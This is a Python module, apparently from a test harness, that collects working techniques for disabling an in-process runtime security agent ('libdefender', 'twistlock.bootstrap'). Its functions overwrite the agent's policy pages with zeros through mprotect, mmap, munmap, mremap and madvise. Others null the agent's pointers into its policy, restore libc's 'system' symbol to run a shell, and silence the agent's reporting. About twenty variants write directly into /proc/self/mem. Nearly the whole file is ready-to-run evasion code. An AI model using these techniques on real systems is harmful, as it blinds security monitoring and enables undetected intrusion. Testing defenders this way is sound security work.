"""The agent's memory: the pages that its policy lies in, its pointers, and the files that memory can be written by."""

import ctypes
import os
import struct
import sys

from image import Image, loaded, maps
from targets import NEW, Memory, by_number, checked, libc, start_program
from ways import shell, way, ways

_ANONYMOUS, _PRIVATE, _FIXED = 0x20, 2, 0x10
_READ, _WRITE = 1, 2
_DONT_NEED = 4
# Kind and flag of a program header.
_LOADED, _WRITABLE = 1, 2
# The rule's name is in the decoded policy, and so tells where that lies.
_RULE = os.environ.get("ATTACK_RULE", "").encode()


def _regions():
    """Mappings of no file that can only be read."""
    with open("/proc/self/maps") as maps:
        for line in maps:
            fields = line.split()
            if len(fields) == 5 and fields[1].startswith("r--"):
                start, end = (int(part, 16) for part in fields[0].split("-"))
                yield start, end - start


def _policies():
    return [place for place in _regions() if _RULE and _RULE in ctypes.string_at(*place)]


def _pointer(value):
    return ctypes.c_void_p(value)


def _fill(start, size):
    ctypes.memset(start, 0, size)


def _by_mprotect(start, size):
    checked(libc().mprotect(_pointer(start), ctypes.c_size_t(size), _READ | _WRITE))
    _fill(start, size)


def _by_number(start, size):
    by_number("mprotect", start, size, _READ | _WRITE)
    _fill(start, size)


def _map(start, size):
    function = libc().mmap
    function.restype = ctypes.c_void_p
    flags = _ANONYMOUS | _PRIVATE | _FIXED
    place = function(_pointer(start), ctypes.c_size_t(size), _READ | _WRITE, flags, -1, ctypes.c_long(0))
    return checked(-1 if place == 2**64 - 1 else 0)


def _by_map_number(start, size):
    by_number("mmap", start, size, _READ | _WRITE, _ANONYMOUS | _PRIVATE | _FIXED, -1, 0)


def _by_unmapping(start, size):
    checked(libc().munmap(_pointer(start), ctypes.c_size_t(size)))
    _map(start, size)


def _by_moving(start, size):
    function = libc().mremap
    function.restype = ctypes.c_void_p
    place = function(
        _pointer(start), ctypes.c_size_t(size), ctypes.c_size_t(size), 1 | 2, _pointer(0x7E0000000000)
    )
    checked(-1 if place == 2**64 - 1 else 0)
    _map(start, size)


def _by_advice(start, size):
    checked(libc().madvise(_pointer(start), ctypes.c_size_t(size), _DONT_NEED))


@ways("pages")
def _pages():
    """The policy becomes zeros, which stop nothing; the kernel's permission is asked in several ways."""

    def over(change):
        def attack(marker):
            found = _policies()
            for place in found:
                change(*place)
            return start_program(marker)

        return attack

    return {
        "protection": over(_by_mprotect),
        "protection_by_number": over(_by_number),
        "mapped_over": over(_map),
        "mapped_over_by_number": over(_by_map_number),
        "unmapped": over(_by_unmapping),
        "moved": over(_by_moving),
        "forgotten": over(_by_advice),
    }


def _writable():
    """The agent's own data, no more: what lies behind it belongs to the interpreter."""
    path = loaded("libdefender")
    if not path:
        return
    base = next(start for start, mapped in maps() if mapped == path)
    with open(path, "rb") as library:
        header = library.read(64)
        library.seek(int.from_bytes(header[32:40], "little"))
        for _ in range(int.from_bytes(header[56:58], "little")):
            kind, flags, _, place, _, _, size, _ = struct.unpack("<2I6Q", library.read(56))
            if kind == _LOADED and flags & _WRITABLE:
                yield from _still_writable(base + place, size)


def _still_writable(start, size):
    """The parts of a segment that were not closed after they were filled."""
    with open("/proc/self/maps") as lines:
        for line in lines:
            begin, end = (int(part, 16) for part in line.split()[0].split("-"))
            begin, end = max(begin, start + 7 & ~7), min(end, start + size)
            if begin < end and line.split()[1].startswith("rw"):
                yield begin, end - begin


@way
def pointer_to_policy(marker):
    """Every pointer of the agent's that points into its policy becomes NULL."""
    policies = _policies()
    for start, size in _writable():
        words = (ctypes.c_size_t * (size // 8)).from_address(start)
        for at, word in enumerate(words):
            if any(begin <= word < begin + length for begin, length in policies):
                words[at] = 0
    return start_program(marker)


@way
def plain_attack(marker):
    """For the invocations after an attack."""
    return start_program(marker)


@way
def around_restored_symbol(marker):
    """The C library's own table of symbols says again where `system` is."""
    path = loaded("libc.so") or loaded("libc-")
    image = Image(path)
    place, value = image.symbol("system")
    page = place & ~0xFFF
    checked(libc().mprotect(_pointer(page), ctypes.c_size_t(0x2000), _READ | _WRITE))
    ctypes.c_uint64.from_address(place + 8).value = value
    return ctypes.CDLL(None).system(shell(marker).encode())


@way
def around_restored_symbol_unseen(marker):
    """The same, once the shim no longer tells the core when invocations begin."""
    bootstrap = sys.modules.get("twistlock.bootstrap")
    if bootstrap is not None:
        bootstrap._core.clear()
    return around_restored_symbol(marker)


def _write_at(file, memory):
    with file:
        file.seek(memory.address)
        file.write(NEW)


def _by_descriptor(opened, memory):
    try:
        checked(opened)
        return os.pwrite(opened, NEW, memory.address)
    finally:
        if opened >= 0:
            os.close(opened)


def _stream(name, *arguments):
    function = getattr(libc(), name)
    function.restype = ctypes.c_void_p
    stream = function(*arguments)
    if not stream:
        checked(-1)
    return _pointer(stream)


def _by_stream(name, *arguments):
    def write(memory):
        library = libc()
        stream = _stream(name, *[it() if callable(it) else it for it in arguments])
        library.fseek(stream, ctypes.c_long(memory.address), 0)
        library.fwrite(NEW, ctypes.c_size_t(1), ctypes.c_size_t(len(NEW)), stream)
        library.fclose(stream)

    return write


def _readable():
    return _stream("fopen", b"/proc/self/mem", b"r")


def _linked(memory, marker):
    link = marker + ".link"
    os.symlink("/proc/self/mem", link)
    _by_descriptor(os.open(link, os.O_RDWR), memory)


def _relative(memory):
    folder = os.open("/proc/self", os.O_RDONLY | os.O_DIRECTORY)
    try:
        _by_descriptor(os.open("mem", os.O_RDWR, dir_fd=folder), memory)
    finally:
        os.close(folder)


def _reopened(memory):
    """Opened for reading, then once more for writing by the name of the descriptor."""
    opened = os.open("/proc/self/mem", os.O_RDONLY)
    try:
        _by_descriptor(os.open(f"/proc/self/fd/{opened}", os.O_RDWR), memory)
    finally:
        os.close(opened)


def _from_child(memory):
    """A child that was not started as a program writes to its parent's memory."""
    path, child = f"/proc/{os.getpid()}/mem", os.fork()
    if child == 0:
        try:
            _by_descriptor(os.open(path, os.O_RDWR), memory)
            os._exit(0)
        except OSError as error:
            os._exit(error.errno)
    _, status = os.waitpid(child, 0)
    if status:
        raise OSError(status >> 8, "the child was refused")


@ways("memory")
def _files():
    def change(write, with_marker=False):
        def attack(marker):
            memory = Memory()
            write(memory, marker) if with_marker else write(memory)
            return memory.tell(marker)

        return attack

    def by_open(path):
        return change(lambda memory: _write_at(open(path, "r+b", buffering=0), memory))

    def by_number_(memory):
        _by_descriptor(by_number("openat", -100, b"/proc/self/mem", os.O_RDWR, 0), memory)

    def by_second_number(memory):
        how = struct.pack("QQQ", os.O_RDWR, 0, 0)
        _by_descriptor(by_number("openat2", -100, b"/proc/self/mem", how, len(how)), memory)

    return {
        "open": by_open("/proc/self/mem"),
        "open_by_thread": by_open("/proc/thread-self/mem"),
        "open_by_process": by_open(f"/proc/{os.getpid()}/mem"),
        "open_by_task": by_open(f"/proc/self/task/{os.getpid()}/mem"),
        "open_by_dots": by_open("/proc/self/../self/fd/../mem"),
        "os_open": change(lambda memory: _by_descriptor(os.open("/proc/self/mem", os.O_RDWR), memory)),
        "os_open_write_only": change(
            lambda memory: _by_descriptor(os.open("/proc/self/mem", os.O_WRONLY), memory)
        ),
        "relative": change(_relative),
        "reopened": change(_reopened),
        "link": change(_linked, with_marker=True),
        "ctypes_open": change(
            lambda memory: _by_descriptor(libc().open(b"/proc/self/mem", os.O_RDWR), memory)
        ),
        "ctypes_creat": change(lambda memory: _by_descriptor(libc().creat(b"/proc/self/mem", 0), memory)),
        "ctypes_fopen": change(_by_stream("fopen", b"/proc/self/mem", b"r+")),
        # libc takes the letters behind a comma as well.
        "ctypes_fopen_comma": change(_by_stream("fopen", b"/proc/self/mem", b"r,+")),
        "ctypes_freopen": change(_by_stream("freopen", b"/proc/self/mem", b"r+", _readable)),
        "ctypes_freopen_itself": change(_by_stream("freopen", None, b"r+", _readable)),
        "ctypes_setmntent": change(_by_stream("setmntent", b"/proc/self/mem", b"r+")),
        "by_number": change(by_number_),
        "by_second_number": change(by_second_number),
        "from_child": change(_from_child),
    }
